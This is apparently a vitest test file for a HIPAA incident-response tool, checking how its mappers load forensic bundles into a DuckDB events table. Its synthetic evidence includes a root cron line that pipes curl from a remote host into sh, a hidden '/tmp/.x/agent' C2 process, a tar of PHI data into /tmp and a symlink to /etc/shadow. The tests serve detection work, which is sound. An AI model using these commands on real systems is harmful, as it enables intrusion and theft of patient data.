/**
 * The mappers, per source, against a real bundle made by the project's own collect on a fixture root
 * (auth, audit, sessions, phi-files), and against JSON lines in the contract's fixed fields for the
 * collectors collect cannot produce under --root (network sockets: live only) or that are wired
 * elsewhere (processes, accounts, persistence, shell history) and for a user artifact.
 */
import {mkdir, readFile, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {bundleContents} from '../../src/analyze/bundle-sources.js'
import {type CaseDb, loadFile, openCaseDb} from '../../src/analyze/case-db.js'
import {builtinMappers, genericMapper} from '../../src/analyze/mappers.js'
import {parseJson, runCli} from '../helpers/cli.js'
import {buildFixtureRoot, WINDOW_START} from '../helpers/fixture-root.js'
import {makeTempDir} from '../helpers/temp.js'

let work: string
let bundleDir: string
let bundleName: string
let db: CaseDb

interface Row {
  time: string | null
  host: string
  bundle: string
  source: string
  kind: string
  user: string | null
  uid: number | null
  auid: number | null
  ip: string | null
  port: number | null
  path: string | null
  exe: string | null
  success: boolean | null
  message: string
  ref: string
  verified: boolean
  data: string
}

async function rows(where: string): Promise<Row[]> {
  const reader = await db.connection.runAndReadAll(
    `SELECT strftime(time, '%Y-%m-%dT%H:%M:%S.%gZ') AS time, * EXCLUDE (time, uid, auid), uid::DOUBLE AS uid, auid::DOUBLE AS auid, data::VARCHAR AS data FROM events WHERE ${where} ORDER BY ref`,
  )
  return reader.getRowObjectsJson() as unknown as Row[]
}

/** The line `ref` points at, read from the file itself. */
async function lineAt(dir: string, ref: string): Promise<string> {
  const [file, line] = ref.split(':') as [string, string]
  return (await readFile(join(dir, file), 'utf8')).split('\n')[Number(line) - 1] as string
}

beforeAll(async () => {
  work = await makeTempDir('hipaa-ir-mappers-')
  const root = join(work, 'root')
  await buildFixtureRoot(root, {layout: 'debian'})
  const collected = await runCli(['collect', '--case', 'IR-MAP', '--root', root, '--out-dir', join(work, 'out'), '--since', WINDOW_START, '--json'])
  expect(collected.exitCode, collected.stderr).toBe(0)
  const tarball = parseJson<{tarball: string}>(collected).tarball
  bundleName = tarball.split('/').pop()!.replace('.tar.gz', '')
  bundleDir = join(work, 'out', bundleName)
  db = await openCaseDb(join(work, 'case.duckdb'))
  const contents = await bundleContents(bundleDir, bundleName)
  for (const {file, mapper} of contents.files) {
    await loadFile(db.connection, {bundle: bundleName, file, host: contents.host, mapper, path: join(bundleDir, file), verified: true})
  }
}, 120_000)

afterAll(() => db?.close())

describe('mappers on a bundle collect made', () => {
  it('loads every event file collect wrote, and nothing from posture, acquisition or custody', async () => {
    const contents = await bundleContents(bundleDir, bundleName)
    const files = contents.files.map((f) => f.file).sort()
    expect(files).toEqual(expect.arrayContaining(['audit/events.jsonl', 'auth/events.jsonl', 'phi-files/recently-modified.jsonl', 'sessions/sessions.jsonl']))
    expect(files.filter((f) => !builtinMappers.has(f.split('/')[0]!))).toEqual([])
    expect(contents.host).toBe('phi-db')
    expect(contents.case).toBe('IR-MAP')
    // Every non-blank line of every file is one row, numbered as in the file.
    for (const file of files) {
      const lines = (await readFile(join(bundleDir, file), 'utf8')).split('\n').filter((l) => l !== '').length
      const counted = await db.connection.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM events WHERE ref LIKE '${file}:%'`)
      expect(counted.getRowObjectsJson()[0]!.n, file).toBe(lines)
    }
    const unparsed = await db.connection.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM events WHERE kind = 'unparsed'`)
    expect(unparsed.getRowObjectsJson()[0]!.n).toBe(0)
  })

  it('auth: kind, user, ip, port, success, the log line as message, and the bundle and host', async () => {
    const mallory = (await rows(`source = 'auth' AND "user" = 'mallory'`))[0]!
    expect(mallory).toMatchObject({
      bundle: bundleName, host: 'phi-db', ip: '192.0.2.66', kind: 'accepted', port: 51001, success: true, time: '2026-03-03T00:30:00.000Z', verified: true,
    })
    expect(mallory.message).toContain('Accepted password for mallory from 192.0.2.66 port 51001')
    const failed = (await rows(`source = 'auth' AND kind = 'failed'`))[0]!
    expect(failed).toMatchObject({ip: '198.51.100.9', success: false, user: 'admin'})
  })

  it('audit: the key as kind, auid and uid as numbers, the first path, the executable and success', async () => {
    const [first, second] = await rows(`source = 'audit' AND kind = 'phi_access'`)
    expect(first).toMatchObject({auid: 1001, exe: '/usr/bin/cat', path: '/var/data/phi/patients.csv', success: true, time: '2026-03-03T09:21:00.100Z', uid: 1001})
    expect(second).toMatchObject({auid: 1002, path: '/var/data/phi/labs/results.csv'})
    expect(first!.message).toBe('audit phi_access serial 200 auid 1001 uid 1001 cat exe /usr/bin/cat succeeded on /var/data/phi/patients.csv')
    expect(await rows(`source = 'audit' AND kind = 'user_changes'`)).toHaveLength(1)
  })

  it('phi-files: the path, its type as kind, mtime as time', async () => {
    const patients = (await rows(`source = 'phi-files' AND path = '/var/data/phi/patients.csv'`))[0]!
    expect(patients).toMatchObject({kind: 'file', time: '2026-03-03T09:21:00.000Z', uid: 0})
    expect(patients.message).toMatch(/^PHI file modified: \/var\/data\/phi\/patients\.csv size 28 mode 0640/)
    expect((await rows(`source = 'phi-files' AND kind = 'symlink'`))[0]!.message).toContain('-> /etc/shadow')
  })

  it('sessions: rows of last, with their time', async () => {
    const sessions = await rows(`source = 'sessions'`)
    expect(sessions.length).toBeGreaterThan(0)
    expect(sessions[0]!.kind).toBe('wtmp_begins')
    expect(sessions[0]!.time).not.toBeNull()
  })

  it('every ref is FILE:LINE of the line the row came from, and data is that line', async () => {
    const all = await rows('true')
    expect(all.length).toBeGreaterThan(10)
    for (const row of all) {
      expect(row.ref).toMatch(/^[a-z-]+\/[a-z-]+\.jsonl:\d+$/)
      expect(JSON.parse(row.data)).toEqual(JSON.parse(await lineAt(bundleDir, row.ref)))
    }
  })
})

describe('mappers for the collectors in the contract\'s fixed fields', () => {
  let dir: string
  let synthetic: CaseDb

  const lines = {
    'accounts/accounts.jsonl': [{gid: 1001, groups: ['alice', 'sudo'], home: '/home/alice', last_change: '2026-03-01', password: 'set', shell: '/bin/bash', sudo: true, uid: 1001, user: 'alice'}],
    'network/sockets.jsonl': [
      {local_address: '10.0.0.5', local_port: '22', netid: 'tcp', peer_address: '203.0.113.7', peer_port: '50122', process: 'users:(("sshd",pid=812,fd=3))', processes: [{fd: 3, name: 'sshd', pid: 812}], recv_q: 0, send_q: 0, source: 'ss-tcp', state: 'ESTAB'},
      {local_address: '0.0.0.0', local_port: '4444', netid: 'tcp', peer_address: '0.0.0.0', peer_port: '*', process: '', processes: [], state: 'LISTEN'},
    ],
    'persistence/persistence.jsonl': [{detail: '* * * * * root curl http://198.51.100.9/x | sh', kind: 'cron', mtime: '2026-03-03T09:40:00Z', path: '/etc/cron.d/x', sha256: 'ab', user: 'root'}],
    'processes/processes.jsonl': [{cmdline: ['/tmp/.x/agent', '-c', 'c2'], cwd: '/tmp', exe: '/tmp/.x/agent', exe_deleted: true, exe_sha256: null, pid: 4242, ppid: 1, start: '2026-03-03T09:41:00Z', uid: 0, user: 'root'}],
    'shell-history/history.jsonl': [{command: 'tar czf /tmp/x.tgz /var/data/phi', n: 12, path: '/home/alice/.bash_history', shell: 'bash', time: '2026-03-03T09:19:00Z', user: 'alice'}],
  }

  beforeAll(async () => {
    dir = join(work, 'synthetic')
    for (const [file, objects] of Object.entries(lines)) {
      await mkdir(join(dir, file.split('/')[0]!), {recursive: true})
      await writeFile(join(dir, file), objects.map((o) => JSON.stringify(o)).join('\n') + '\n')
    }
    // A user artifact: the `lines` parser's rows, with a blank line, a line that is not JSON, a line of
    // spaces and tabs, and an object indented by spaces in between.
    await mkdir(join(dir, 'apache'), {recursive: true})
    await writeFile(join(dir, 'apache/lines.jsonl'), `${JSON.stringify({line: 'GET /export?all=1', n: 1})}\n\nnot json at all\n${JSON.stringify({kind: 'hit', line: 'GET /', time: '2026-03-03T10:00:00Z'})}\n \t \n  ${JSON.stringify({kind: 'hit', line: 'GET /indented'})}\n`)
    synthetic = await openCaseDb(join(work, 'synthetic.duckdb'))
    for (const file of Object.keys(lines)) {
      const mapper = builtinMappers.get(file.split('/')[0]!)!
      await loadFile(synthetic.connection, {bundle: 'IR-MAP_web1_20260303T100000Z', file, host: 'web1', mapper, path: join(dir, file), verified: false})
    }
    await loadFile(synthetic.connection, {bundle: 'IR-MAP_web1_20260303T100000Z', file: 'apache/lines.jsonl', host: 'web1', mapper: genericMapper('apache', ['apache/lines.jsonl']), path: join(dir, 'apache/lines.jsonl'), verified: false})
  })

  afterAll(() => synthetic?.close())

  async function one(where: string): Promise<Record<string, unknown>> {
    const reader = await synthetic.connection.runAndReadAll(`SELECT strftime(time, '%Y-%m-%dT%H:%M:%SZ') AS time, * EXCLUDE (time, uid, auid, data), uid::DOUBLE AS uid FROM events WHERE ${where}`)
    const found = reader.getRowObjectsJson()
    expect(found).toHaveLength(1)
    return found[0] as Record<string, unknown>
  }

  it('network: a connection keeps the peer; a listener its own port; the process name as exe', async () => {
    expect(await one(`source = 'network' AND ref = 'network/sockets.jsonl:1'`)).toMatchObject({
      exe: 'sshd', ip: '203.0.113.7', kind: 'socket', message: 'tcp ESTAB 10.0.0.5:22 -> 203.0.113.7:50122 users:(("sshd",pid=812,fd=3))', port: 50122, time: null, verified: false,
    })
    expect(await one(`source = 'network' AND ref = 'network/sockets.jsonl:2'`)).toMatchObject({exe: null, ip: null, port: 4444})
  })

  it('processes: start as time, the executable, and a deleted executable said in the message', async () => {
    const process = await one(`source = 'processes'`)
    expect(process).toMatchObject({exe: '/tmp/.x/agent', kind: 'process', time: '2026-03-03T09:41:00Z', uid: 0, user: 'root'})
    expect(process.message).toBe('process 4242 ppid 1 user root /tmp/.x/agent (deleted) cwd /tmp : /tmp/.x/agent -c c2')
  })

  it('accounts: the last password change as time, home and shell, sudo and groups in the message', async () => {
    const account = await one(`source = 'accounts'`)
    expect(account).toMatchObject({exe: '/bin/bash', kind: 'account', path: '/home/alice', time: '2026-03-01T00:00:00Z', uid: 1001, user: 'alice'})
    expect(account.message).toContain('groups alice,sudo can sudo password set')
  })

  it('persistence: its kind, path, user and detail', async () => {
    expect(await one(`source = 'persistence'`)).toMatchObject({
      kind: 'cron', message: 'cron /etc/cron.d/x user root : * * * * * root curl http://198.51.100.9/x | sh', path: '/etc/cron.d/x', time: '2026-03-03T09:40:00Z', user: 'root',
    })
  })

  it('shell history: the command with who ran it and where it was recorded', async () => {
    expect(await one(`source = 'shell-history'`)).toMatchObject({
      kind: 'command', message: 'alice (bash /home/alice/.bash_history:12) $ tar czf /tmp/x.tgz /var/data/phi', path: '/home/alice/.bash_history', user: 'alice',
    })
  })

  it('a user artifact: generic rows; a line that is not JSON is kept as unparsed; refs count the blank line', async () => {
    expect(await one(`source = 'apache' AND ref = 'apache/lines.jsonl:1'`)).toMatchObject({kind: 'line', message: 'GET /export?all=1', time: null})
    expect(await one(`source = 'apache' AND ref = 'apache/lines.jsonl:3'`)).toMatchObject({kind: 'unparsed', message: 'not json at all'})
    expect(await one(`source = 'apache' AND ref = 'apache/lines.jsonl:4'`)).toMatchObject({kind: 'hit', message: 'GET /', time: '2026-03-03T10:00:00Z'})
    // The line of spaces and tabs is skipped like the empty one; the indented object is parsed.
    expect(await one(`source = 'apache' AND ref = 'apache/lines.jsonl:6'`)).toMatchObject({kind: 'hit', message: 'GET /indented'})
    const count = await synthetic.connection.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM events WHERE source = 'apache'`)
    expect(count.getRowObjectsJson()[0]!.n).toBe(4)
  })
})
